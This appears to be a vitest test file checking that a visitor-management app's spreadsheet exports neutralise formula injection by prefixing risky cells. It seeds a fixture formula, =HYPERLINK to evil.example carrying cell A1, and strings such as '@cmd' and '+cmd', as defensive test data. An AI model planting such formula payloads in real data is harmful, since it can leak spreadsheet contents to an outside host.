import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Tenant, type TestApp, testApp, twoTenants } from '../../../test/harness.js';
import { employees, listedPeople, visits } from '../../db/schema/index.js';
import { ServerText, safeCell, safeRow } from './exportCells.js';

describe('safeCell', () => {
  it('prefixes text a spreadsheet would read as a formula, and nothing else', () => {
    for (const s of ['=1+2', '+86 138 0000 0000', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(safeCell(s)).toBe(`'${s}`);
    for (const s of ['', 'plain', 'a=b', '13800138000', "'quoted"]) expect(safeCell(s)).toBe(s);
    const at = new Date();
    expect(safeRow([-5, 0, at, null, undefined, true])).toEqual([-5, 0, at, null, undefined, true]);
  });

  it('writes the server’s own base64url text (a chain hash) exactly, and anything else as text from outside', () => {
    expect(safeCell(ServerText.of('-AbC_09'))).toBe('-AbC_09');
    expect(ServerText.of('-1+2')).toBe('-1+2');
    expect(safeCell(ServerText.of('-1+2'))).toBe("'-1+2");
  });
});

/** Every row of the first sheet, each cell as exceljs reads it back (text, number, Date). */
async function sheetRows(body: Buffer): Promise<unknown[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  wb.worksheets[0]?.eachRow((r) => {
    rows.push(Array.from((r.values as unknown[]).slice(1)));
  });
  return rows;
}

// An attacker's text (a visitor's name, company or reason; an employee's name; a blacklist remark) must reach the
// exported workbook as text, never as a formula a spreadsheet program runs.
describe('exports neutralise formula-like text', () => {
  let t: TestApp;
  let a: Tenant;
  const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")';
  beforeAll(async () => {
    t = await testApp();
    ({ a } = await twoTenants(t));
    const [emp] = await t.db
      .insert(employees)
      .values({ companyId: a.id, name: EVIL, phone: '13900000001', email: 'e@example.com', position: '@SUM(1,2)' })
      .returning();
    await t.db.insert(visits).values({
      companyId: a.id,
      kind: 'walkin',
      status: 'signedIn',
      name: EVIL,
      phone: '+8613900000002',
      company: '-1+2',
      visitReason: '@cmd',
      empId: emp?.id,
      empName: EVIL,
      visitAt: new Date(),
    });
    await t.db.insert(listedPeople).values({ companyId: a.id, kind: 'black', name: EVIL, phone: '13900000003', remark: '+cmd' });
  });
  afterAll(() => t.close());

  const download = async (path: string) => {
    const res = await t.app.inject({ method: 'GET', url: `/api/${path}`, headers: { 'x-coolvisit-token': a.token } });
    expect(res.headers['content-type']).toContain('spreadsheetml');
    return sheetRows(res.rawPayload);
  };
  const texts = (rows: unknown[][]) => rows.flat().filter((v): v is string => typeof v === 'string');
  const unsafe = (rows: unknown[][]) => texts(rows).filter((s) => /^[=+\-@\t\r]/.test(s));

  it('ExportVisitorList: text prefixed, numbers and dates real cells', async () => {
    const rows = await download('ExportVisitorList?lang=en');
    expect(unsafe(rows)).toEqual([]);
    const row = rows.find((r) => r[0] === `'${EVIL}`);
    expect(row?.slice(0, 3)).toEqual([`'${EVIL}`, "'+8613900000002", "'-1+2"]);
    expect(row?.[8]).toBe("'@cmd");
    expect(row?.[9]).toBe(1);
    expect(row?.[13]).toBeInstanceOf(Date);
  });

  it('ExportEmployeeList', async () => {
    const rows = await download('ExportEmployeeList?lang=en');
    expect(unsafe(rows)).toEqual([]);
    expect(texts(rows)).toContain(`'${EVIL}`);
    expect(texts(rows)).toContain("'@SUM(1,2)");
  });

  it('ExportBlacklist', async () => {
    const rows = await download('ExportBlacklist?lang=en');
    expect(unsafe(rows)).toEqual([]);
    expect(rows[1]?.slice(0, 4)).toEqual([`'${EVIL}`, '13900000003', undefined, "'+cmd"]);
    expect(rows[1]?.[5]).toBeInstanceOf(Date);
  });

  it('ExportEvacuationList', async () => {
    const rows = await download('ExportEvacuationList?lang=en');
    expect(unsafe(rows)).toEqual([]);
    expect(texts(rows)).toContain(`'${EVIL}`);
  });

  it('ExportVisitReport, every visit and grouped by company', async () => {
    const now = new Date();
    const day = `${now.getFullYear()}-${String(now.getMonth() + 1).padStart(2, '0')}-${String(now.getDate()).padStart(2, '0')}`;
    const rows = await download(`ExportVisitReport?lang=en&startDate=${day}&endDate=${day}`);
    expect(unsafe(rows)).toEqual([]);
    expect(texts(rows)).toContain("'+8613900000002");
    const grouped = await download(`ExportVisitReport?lang=en&startDate=${day}&endDate=${day}&groupBy=company`);
    expect(unsafe(grouped)).toEqual([]);
    expect(texts(grouped)).toContain("'-1+2");
  });
});
